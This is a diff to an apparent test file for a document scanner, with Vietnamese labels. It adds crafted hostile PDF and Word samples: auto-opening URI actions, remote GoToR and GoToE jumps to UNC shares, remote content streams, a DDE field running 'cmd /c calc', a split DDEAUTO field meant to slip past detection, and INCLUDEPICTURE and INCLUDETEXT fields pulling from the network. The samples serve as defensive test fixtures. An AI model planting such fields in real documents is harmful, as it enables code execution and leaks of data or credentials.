@@ -152,6 +152,19 @@ HONEST = {
         DOCX,
         "docx",
     ),
+    "mục lục.docx": (
+        lambda: zipped(
+            word_parts()
+            | {
+                "word/document.xml": (
+                    b"<w:document xmlns:w='w'><w:instrText> TOC </w:instrText><w:instrText> PAGE </w:instrText>"
+                    b'<w:instrText> HYPERLINK "https://example.invalid/" </w:instrText><w:t>DDE</w:t></w:document>'
+                )
+            }
+        ),
+        DOCX,
+        "docx",
+    ),
     "danh sách.xlsx": (lambda: zipped(sheet_parts()), XLSX, "xlsx"),
     "nhiều dòng.xlsx": (
         lambda: zipped(
@@ -243,6 +256,25 @@ def with_launch(document):
 
 def with_submit(document):
     document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.invalid")
+
+
+def opening(**action):
+    return lambda document: document.Root.__setitem__("/OpenAction", pikepdf.Dictionary(**action))
+
+
+def with_address_after_a_step(document):
+    beyond = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://example.invalid/"))
+    step = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=[beyond])
+    document.pages[0].AA = pikepdf.Dictionary(O=document.make_indirect(step))
+
+
+def with_stream_elsewhere(document):
+    document.pages[0].Contents = document.make_stream(b"", F="http://example.invalid/a")
+
+
+def coded(*codes):
+    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>" for code in codes)
+    return lambda: word_with(**{"word/document.xml": f"<w:document xmlns:w='w'>{runs}</w:document>".encode()})
 
 
 def with_attachment(document):
@@ -426,6 +458,14 @@ HOSTILE = {
     ),
     "mở chương trình.pdf": (lambda: pdf(with_launch), "mở chương trình"),
     "gửi đi.pdf": (lambda: pdf(with_submit), "gửi dữ liệu"),
+    "tự mở địa chỉ.pdf": (
+        lambda: pdf(opening(S=pikepdf.Name.URI, URI="http://example.invalid/")),
+        "tự mở địa chỉ",
+    ),
+    "mở địa chỉ sau một bước.pdf": (lambda: pdf(with_address_after_a_step), "tự mở địa chỉ"),
+    "sang tệp khác.pdf": (lambda: pdf(opening(S=pikepdf.Name.GoToR, F=r"\\\\may\\chung\\a.pdf")), "nơi khác"),
+    "sang tệp kèm.pdf": (lambda: pdf(opening(S=pikepdf.Name.GoToE, F=r"\\\\may\\chung\\a.pdf")), "nơi khác"),
+    "nội dung ở nơi khác.pdf": (lambda: pdf(with_stream_elsewhere), "nơi khác"),
     "đính kèm.pdf": (lambda: pdf(with_attachment), "đính kèm"),
     "ghim.pdf": (lambda: pdf(with_pinned_attachment), "đính kèm"),
     "biểu mẫu.pdf": (lambda: pdf(with_forms_of_xml), "biểu mẫu động"),
@@ -528,6 +568,14 @@ HOSTILE = {
     ),
     "ảnh theo dõi.docx": (
         lambda: word_with(**{"word/_rels/document.xml.rels": relations("image", "//example.invalid/a.png")}),
+        "nơi khác",
+    ),
+    "mã trường dde.docx": (coded(r' DDE "cmd" "/c calc"'), "nơi khác"),
+    "mã trường chia nhỏ.docx": (coded(" DD", "EAU", r'TO c:\\a "b" '), "nơi khác"),
+    "ảnh từ mạng.docx": (coded(' INCLUDEPICTURE "http', '://example.invalid/a.png" '), "nơi khác"),
+    "chữ từ máy khác.docx": (coded(r' INCLUDETEXT "\\\\may\\a.docx" '), "nơi khác"),
+    "trường đơn.docx": (
+        lambda: word_with(**{"word/header1.xml": b"<w:fldSimple w:instr='INCLUDETEXT &quot;http://a.invalid&quot;'/>"}),
         "nơi khác",
     ),
     "dde.xlsx": (
